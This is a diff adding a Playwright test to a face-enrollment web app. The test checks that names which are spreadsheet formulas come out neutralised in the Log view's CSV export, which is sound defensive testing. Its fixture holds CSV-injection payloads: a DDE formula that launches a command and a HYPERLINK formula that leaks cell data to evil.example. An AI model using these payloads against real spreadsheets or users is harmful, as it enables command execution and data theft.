@@ -1,4 +1,6 @@
+import { readFileSync } from 'node:fs';
 import { expect, test } from './fixtures';
+import type {} from '../test/lab/lab-db';
 import { enrollFromFiles, enrollPerson, photo } from './app';
 import { makeFakeCameraFile, withCamera } from './camera';
 import { HAVE_DATASETS, NO_DATASETS } from './paths';
@@ -48,6 +50,29 @@ test.describe('bad input and failures', () => {
     await expect(view.getByRole('alert').filter({ hasText: 'too long' })).toBeVisible();
     await page.getByRole('link', { name: 'People' }).click();
     await expect(page.locator('visage-people-view').getByText('Nobody is enrolled yet.')).toBeVisible();
+  });
+
+  test('a name that is a spreadsheet formula is exported neutralised through the Log view\'s CSV export', async ({ page }) => {
+    const names = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+SUM(1,2)', '@A1', '-1+1'];
+    await page.goto('/__lab/lab.html');
+    await page.waitForFunction(() => document.body.dataset['ready'] === 'true' && !!window.visageDb);
+    await page.evaluate(async (names) => {
+      const v = window.visageDb;
+      const db = await v.openVisageDb('visage');
+      for (const [i, name] of names.entries()) {
+        const person = await db.enrollPerson(name, [{ embedding: v.fakeEmbedding(i + 1), quality: 0.9, thumbnail: v.fakeThumbnail() }]);
+        await db.addLogEntry({ personId: person.id, name: person.name, similarity: 0.8 }, { dedupeMs: 0 });
+      }
+      db.close();
+    }, names);
+    await page.goto('/index.html#log');
+    const log = page.locator('visage-log-view');
+    await expect(log.locator('tr[data-entry]')).toHaveCount(names.length);
+    const [download] = await Promise.all([page.waitForEvent('download'), log.getByRole('button', { name: 'Export CSV' }).click()]);
+    const csv = readFileSync(await download.path(), 'utf8').replace(/^\uFEFF/, '');
+    const nameFields = csv.trim().split('\r\n').slice(1).map((line) => /^[^,]*,[^,]*,("(?:[^"]|"")*"|[^,]*)/.exec(line)?.[1]);
+    // Each name quoted, an apostrophe in front: a spreadsheet shows it as text and runs nothing.
+    expect(nameFields.sort()).toEqual(names.map((n) => `"'${n.replace(/"/g, '""')}"`).sort());
   });
 
   test('no camera: the live view says so and offers a retry', async ({ page, context }) => {
